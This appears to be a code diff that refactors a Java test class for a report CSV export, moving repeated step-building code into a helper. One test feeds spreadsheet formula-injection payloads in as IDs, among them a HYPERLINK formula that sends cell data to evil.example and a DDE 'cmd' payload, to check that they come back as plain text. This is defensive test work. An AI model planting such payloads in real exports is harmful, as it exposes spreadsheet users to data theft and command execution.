@@ -20,15 +20,7 @@ class TheCsvSaysWhatTheJsonSays {
     @Test
     void idsWithCommasQuotesLineBreaksAndHashesComeBackWhole() {
         List<String> ids = List.of("CAD,\"1\"", "CAD\n2", "#3");
-        StringBuilder steps = new StringBuilder();
-        for (String id : ids) {
-            String json = JsonNodeFactory.instance.stringNode(id).toString();
-            steps.append("{ \"at\": \"").append(at("10:00")).append("\", \"by\": \"ch1\", \"do\": \"RecordCall\", ")
-                    .append("\"callId\": ").append(json).append(" },\n");
-            steps.append("{ \"at\": \"").append(at("10:00")).append("\", \"by\": \"ch1\", \"do\": \"CreateIncident\", ")
-                    .append("\"incidentId\": ").append(json).append(", \"callId\": ").append(json)
-                    .append(", \"grade\": \"I\", \"bcu\": ").append(json).append(" },\n");
-        }
+        StringBuilder steps = callsAndIncidents(ids, true);
         steps.append(step("10:01", "dsp1", "AssignUnit", "incidentId", "#3", "unitId", "U1"));
         Reports.Shift shift = Reports.Shift.of(Reports.shift(at("09:00").toString(), at("11:00").toString(), "",
                 steps.toString()));
@@ -57,15 +49,7 @@ class TheCsvSaysWhatTheJsonSays {
     void anIdThatASpreadsheetWouldRunAsAFormulaIsWrittenAsTextAndReadBackWhole() {
         List<String> ids = List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0",
                 "-2+3", "@SUM(A1)", "\t=1", "'=2", "-7", "-", "'-");
-        StringBuilder steps = new StringBuilder();
-        for (String id : ids) {
-            String json = JsonNodeFactory.instance.stringNode(id).toString();
-            steps.append("{ \"at\": \"").append(at("10:00")).append("\", \"by\": \"ch1\", \"do\": \"RecordCall\", ")
-                    .append("\"callId\": ").append(json).append(" },\n");
-            steps.append("{ \"at\": \"").append(at("10:00")).append("\", \"by\": \"ch1\", \"do\": \"CreateIncident\", ")
-                    .append("\"incidentId\": ").append(json).append(", \"callId\": ").append(json)
-                    .append(", \"grade\": \"I\" },\n");
-        }
+        StringBuilder steps = callsAndIncidents(ids, false);
         Reports.Shift shift = Reports.Shift.of(Reports.shift(at("09:00").toString(), at("11:00").toString(), "",
                 steps.substring(0, steps.length() - 2)));
         Report report = shift.daris().report(at("09:00"), at("11:00"));
@@ -93,5 +77,19 @@ class TheCsvSaysWhatTheJsonSays {
         assertThat(ReportCsv.field("say \"hi\"")).isEqualTo("\"say \"\"hi\"\"\"");
         assertThat(ReportCsv.field("#1")).isEqualTo("\"#1\"");
         assertThat(ReportCsv.field("a\r\nb")).isEqualTo("\"a\r\nb\"");
+    }
+
+    /** For each id, a call and an I incident both named by it (in the BCU of that name, when {@code bcuToo}). */
+    private static StringBuilder callsAndIncidents(List<String> ids, boolean bcuToo) {
+        StringBuilder steps = new StringBuilder();
+        for (String id : ids) {
+            String json = JsonNodeFactory.instance.stringNode(id).toString();
+            steps.append("{ \"at\": \"").append(at("10:00")).append("\", \"by\": \"ch1\", \"do\": \"RecordCall\", ")
+                    .append("\"callId\": ").append(json).append(" },\n");
+            steps.append("{ \"at\": \"").append(at("10:00")).append("\", \"by\": \"ch1\", \"do\": \"CreateIncident\", ")
+                    .append("\"incidentId\": ").append(json).append(", \"callId\": ").append(json)
+                    .append(", \"grade\": \"I\"").append(bcuToo ? ", \"bcu\": " + json : "").append(" },\n");
+        }
+        return steps;
     }
 }
